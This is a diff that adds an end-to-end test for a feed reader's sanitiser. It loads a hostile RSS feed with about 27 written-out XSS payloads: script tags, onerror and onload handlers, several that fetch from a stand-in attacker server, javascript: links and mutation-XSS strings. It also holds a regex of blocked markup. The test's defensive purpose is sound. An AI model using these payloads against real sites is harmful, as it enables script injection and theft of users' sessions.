@@ -1,0 +1,132 @@
+import { randomUUID } from 'node:crypto';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { call } from '../support/http';
+import { apiSetupAdmin } from './support/api';
+import { startAttacker, type Attacker } from './support/attacker';
+import { useScenario } from './support/scenario';
+import { smallFeed } from './support/seed';
+import { queryAll } from './support/server-db';
+import { article, entryRow, sidebar, signInInUi } from './support/ui';
+
+const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==';
+const FLAG = 'window.__xss=true';
+
+/** Each payload would set window.__xss or reach the attacker's server if anything let it through. */
+function vectors(a: string): Record<string, string> {
+	return {
+		'inline script': `<script>${FLAG};fetch('${a}/script-inline')</script>`,
+		'script src': `<script src="${a}/script.js"></script>`,
+		'img onerror': `<img src="x" onerror="${FLAG};new Image().src='${a}/onerror'">`,
+		'img onload': `<img src="${PIXEL}" onload="${FLAG}">`,
+		'svg onload': `<svg onload="${FLAG}"><circle r="1"/></svg>`,
+		'svg script': `<svg><script>${FLAG}</script></svg>`,
+		'svg data image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=true'/>">`,
+		'iframe other host': `<iframe src="${a}/iframe"></iframe>`,
+		'iframe srcdoc': `<iframe srcdoc="<script>parent.__xss=true</script>"></iframe>`,
+		'javascript link': `<a class="click-me" href="javascript:${FLAG}">javascript link</a>`,
+		'mixed case javascript link': `<a class="click-me" href="JaVaScRiPt:${FLAG}">mixed case link</a>`,
+		'onclick link': `<a class="click-me" href="#top" onclick="${FLAG}">onclick link</a>`,
+		'meta refresh': `<meta http-equiv="refresh" content="0;url=${a}/refresh">`,
+		'link stylesheet': `<link rel="stylesheet" href="${a}/style.css">`,
+		'style import': `<style>@import url("${a}/import.css"); p { background: url("${a}/style-bg"); }</style>`,
+		'style attribute': `<div style="background-image:url('${a}/inline-bg');width:expression(${FLAG})">styled</div>`,
+		'object and embed': `<object data="${a}/object"></object><embed src="${a}/embed">`,
+		'embed javascript': `<embed src="javascript:${FLAG}">`,
+		'form action': `<form action="${a}/form"><button class="click-me" type="submit">Send form</button></form>`,
+		'mutation xss math': `<math><mtext><table><mglyph><style><img src=x onerror="${FLAG}"></style></mglyph></table></mtext></math>`,
+		'mutation xss noscript': `<noscript><p title="</noscript><img src=x onerror=${FLAG}>"></noscript>`,
+		'details ontoggle': `<details open ontoggle="${FLAG}"><summary>more</summary>details</details>`,
+		'video source onerror': `<video><source src="x" onerror="${FLAG}"></video>`,
+		'input autofocus': `<input autofocus onfocus="${FLAG}">`,
+		'base href': `<base href="${a}/base/"><a href="relative-link">relative link</a>`,
+		'body onload': `<body onload="${FLAG}">body</body>`,
+		'data link': `<a class="click-me" href="data:text/html,<script>opener.__xss=true</script>">data link</a>`
+	};
+}
+
+describe('hostile content', () => {
+	const s = useScenario();
+	let attacker: Attacker;
+	beforeEach(async () => {
+		attacker = await startAttacker();
+	});
+	afterEach(() => attacker.close());
+
+	it('runs no script from a feed and sends nothing to the attacker, in any entry', async () => {
+		const { page, stack, context } = s;
+		const payloads = Object.entries(vectors(attacker.url));
+		stack.feeds.setFeed(
+			'/hostile.rss',
+			smallFeed(
+				'Hostile <img src=x onerror=window.__xss=true>',
+				payloads.map(([name, html], i) => ({
+					guid: `v${i}`,
+					title: `Vector ${String(i + 1).padStart(2, '0')}: ${name} <img src=x onerror=window.__xss=true>`,
+					html: `<p>before ${i}</p>${html}<p>after ${i}</p>`
+				}))
+			)
+		);
+		const admin = await apiSetupAdmin(stack.url);
+		const pushed = await call(stack.url, 'POST', '/api/sync/push', {
+			token: admin.token,
+			body: {
+				protocolVersion: 1,
+				clientId: `seed-${randomUUID()}`,
+				mutations: [
+					{
+						id: 1,
+						name: 'subscription.create',
+						args: {
+							subscriptionId: randomUUID(),
+							url: `${stack.feeds.url}/hostile.rss`,
+							folderId: null,
+							orderKey: 'a0'
+						}
+					}
+				]
+			}
+		});
+		expect(pushed.status).toBe(200);
+
+		await signInInUi(page, stack.url, 'admin');
+		await sidebar(page).getByRole('button', { name: 'All', exact: true }).click();
+		await entryRow(page, 'Vector 01').waitFor({ timeout: 30_000 });
+
+		// What the server stored is already clean: the browser's pass is the second line of defence.
+		const stored = queryAll<{ content: string | null }>(stack.databasePath, 'SELECT content FROM entries');
+		expect(stored).toHaveLength(payloads.length);
+		for (const { content } of stored) {
+			expect(content ?? '').not.toMatch(
+				/<script|\son\w+\s*=|javascript:|srcdoc|<meta|<link|<object|<embed|<base|<form/i
+			);
+			expect(content ?? '').not.toContain(attacker.url);
+		}
+
+		for (let i = 0; i < payloads.length; i++) {
+			const title = `Vector ${String(i + 1).padStart(2, '0')}:`;
+			const row = entryRow(page, title);
+			await row.scrollIntoViewIfNeeded();
+			await row.click();
+			await article(page).getByText(`before ${i}`, { exact: true }).waitFor();
+			await article(page).getByText(`after ${i}`, { exact: true }).waitFor();
+			// The title is text, shown as written.
+			expect(await article(page).getByRole('heading', { level: 1 }).textContent()).toContain('<img src=x');
+			// Let every image in the article finish (an onerror or onload would have run by then).
+			await page.waitForFunction(() =>
+				[...document.querySelectorAll('main article img')].every((img) => (img as HTMLImageElement).complete)
+			);
+			for (const link of await article(page).locator('.click-me').all()) {
+				await link.click({ modifiers: [], noWaitAfter: true }).catch(() => undefined);
+			}
+			expect(page.url().startsWith(stack.url)).toBe(true);
+		}
+
+		for (const p of context.pages()) {
+			expect(
+				await p.evaluate(() => (window as unknown as { __xss?: unknown }).__xss).catch(() => undefined)
+			).toBeUndefined();
+		}
+		expect(await page.locator('main article iframe').count()).toBe(0);
+		expect(attacker.requests).toEqual([]);
+	});
+});
